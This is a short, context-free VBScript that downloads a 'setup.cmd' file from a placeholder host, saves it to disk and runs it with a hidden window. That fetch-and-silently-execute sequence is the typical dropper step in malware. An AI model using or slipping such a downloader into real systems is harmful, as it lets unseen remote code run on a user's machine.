Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "https://downloads.example.com/setup.cmd", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.responseBody
stream.SaveToFile "C:\work\setup.cmd", 2
CreateObject("WScript.Shell").Run "C:\work\setup.cmd", 0, True
